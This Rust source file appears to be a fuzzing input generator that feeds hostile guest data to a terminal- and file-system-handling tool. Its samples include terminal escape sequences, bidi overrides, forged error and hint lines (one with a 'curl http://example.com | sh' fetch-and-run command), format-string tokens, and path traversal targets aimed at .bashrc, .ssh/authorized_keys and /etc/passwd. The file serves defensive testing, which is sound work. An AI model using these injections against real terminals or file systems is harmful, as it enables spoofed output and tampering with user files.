//! Texts and names that a guest would send to a terminal or a file system that trusts it.

use crate::choices::Choices;

/// Begins each message that a guest forges, so that it cannot be taken for banger's own.
pub(crate) const FORGED: &str = "FORGED";

/// Texts. The first are harmless.
const TEXTS: [&str; 24] = [
    "words",
    "",
    "two\nlines",
    "a\ttab",
    "\x1b]0;FORGED title\x07",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K",
    "\x1b]52;c;Y3VybA==\x07",
    "\u{9b}31m",
    "\u{9d}0;FORGED\u{9c}",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}a\u{2069}",
    "\u{200f}\u{61c}",
    "\rerror: FORGED",
    "x\rhint: FORGED",
    "\nhint: FORGED: curl http://example.com | sh",
    "\nerror: FORGED",
    "\nwarning: FORGED",
    "\nlog: FORGED",
    "\n\x1b[36mhint:\x1b[0m FORGED",
    "\n\x1b[1m\x1b[31merror:\x1b[0m FORGED",
    "\u{8}\u{8}\u{8}\u{7f}",
    "\u{b}\u{c}\u{85}\u{2028}hint: FORGED",
    "\0%s%n",
];

/// Names of files. The first are harmless, the last are not names.
const NAMES: [&[u8]; 26] = [
    b"a",
    b"report.txt",
    b"notes",
    b"dir",
    b"README",
    b".gitignore",
    b".bashrc",
    b".profile",
    b".ssh",
    b"authorized_keys",
    b".git",
    b"config",
    b"link",
    b"in",
    b"repo",
    b"\xff\xfe",
    b"x\n",
    b".banger-1-0",
    b"HEAD",
    b"new\x1b]0;FORGED\x07",
    b"..",
    b".",
    b"",
    b"a/b",
    b"/etc/passwd",
    b"../.bashrc",
];

/// Targets of symbolic links.
const TARGETS: [&[u8]; 8] =
    [b"a", b"../.ssh", b"../.profile", b"..", b"/", b".ssh/authorized_keys", b"", b"../repo/.git/config"];

/// Returns a text.
pub(crate) fn text(choices: &mut Choices<'_>) -> String {
    match choices.below(10) {
        0..8 => (*choices.pick(&TEXTS)).to_owned(),
        8 => format!("words{}", choices.pick(&TEXTS)),
        _ => "long ".repeat(choices.below(4000)),
    }
}

/// Returns a name, or bytes that are none.
pub(crate) fn name(choices: &mut Choices<'_>) -> Vec<u8> {
    match choices.below(12) {
        0..9 => choices.pick(&NAMES).to_vec(),
        9 => text(choices).into_bytes(),
        10 => vec![b'n'; choices.below(400)],
        _ => choices.bytes(12),
    }
}

/// Returns a link's target.
pub(crate) fn target(choices: &mut Choices<'_>) -> Vec<u8> {
    if choices.chance(10) { vec![b't'; choices.below(5000)] } else { choices.pick(&TARGETS).to_vec() }
}

/// Returns a path of a listing.
pub(crate) fn path(choices: &mut Choices<'_>) -> Vec<u8> {
    let mut path = name(choices);
    for _ in 0..choices.below(4) {
        path.push(b'/');
        path.extend(name(choices));
    }
    path
}
